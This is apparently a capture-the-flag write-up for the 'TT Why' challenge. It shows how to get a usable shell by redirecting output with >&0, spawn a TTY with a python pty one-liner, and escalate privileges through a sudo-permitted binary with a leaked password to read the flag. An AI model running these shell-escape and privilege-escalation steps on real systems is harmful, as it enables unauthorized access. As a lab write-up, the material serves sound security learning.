So, what a mess this was. Firstly, we started by performing a timing attack. That managed to get us quite a lot of things, but it was annoying having to wait 5 minutes for some results. So lets look for a better option. Looking at the hint, it says to think about I/O. Hmmm, ok. Connecting through netcat, it prints out"Imagine having a usable terminal". Ok, interesting. If we try and enter in a command, it doesn't output anything. Odd. We can probably assume that all our commands are being sent to /dev/null, where they just get wiped away. What if we could trick the connection to redirect our commands anywhere, instead of /dev/null. If we know that 2>/dev/null sends any errors there, we can redirect our output to the input as we're connected there, doing >&0. Once we've done some enum, we can use the name of the challenge "TT Why" (sounding like TTY) to spawn a tty shell, where we can run sudo -l (as password.txt has problem-user password) to see that we can run /usr/bin/chguser as root. Changing user, navigating to home folder, then to flag, we get flag.txt

>ls -alR ./ >&0
> cat message.txt
Man, I just sure wish I could impersonateother_user
> cat password.txt
Password for problem user: 1234qwer
> python -c 'import pty; pty.spawn("/bin/bash")' >&0
$ sudo -l
(root) /usr/bin/chguser
$ sudo /usr/bin/chguser other-user
Password: 1234qwer
$ ls -alR
$ cat flag/flag.txt


Last updated